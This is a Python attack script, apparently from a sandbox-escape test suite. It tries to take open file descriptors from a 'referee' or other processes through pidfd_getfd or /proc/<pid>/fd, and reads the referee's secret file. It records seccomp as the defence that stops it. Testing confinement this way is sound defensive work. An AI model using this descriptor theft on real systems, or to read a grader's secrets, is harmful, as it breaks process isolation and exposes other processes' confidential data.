"""Takes an open file from the referee or another process: by its process handle, or through /proc.

Known by: what the referee's secret file holds comes back, or a file of another process that is more than /dev/null.
"""

from __future__ import annotations

import os
from functools import partial

from sandbox.attacks.jailed import Target, attack, call, open_any, others

STOPPED_BY = ("seccomp",)


def _take(pid: int, number: int) -> str:
    handle = call("pidfd_getfd", call("pidfd_open", pid, 0), number, 0)
    return os.pread(handle, 100, 0).decode(errors="replace")


def _open(pid: int, number: int) -> str:
    path = f"/proc/{pid}/fd/{number}"
    if os.readlink(path) in ("/dev/null", *(os.readlink(f"/proc/self/fd/{own}") for own in range(3))):
        raise OSError(0, "is nothing that it has not")
    handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    return os.pread(handle, 100, 0).decode(errors="replace")


def main(target: Target) -> str:
    """The number is the referee's; the first three are anybody's."""
    tries = []
    for pid in others(target):
        for number in sorted({target.descriptor, *range(32)}):
            tries.append((f"{pid} {number} by handle", partial(_take, pid, number)))
            tries.append((f"{pid} {number} by path", partial(_open, pid, number)))
    return open_any(tries)


if __name__ == "__main__":
    attack(main)
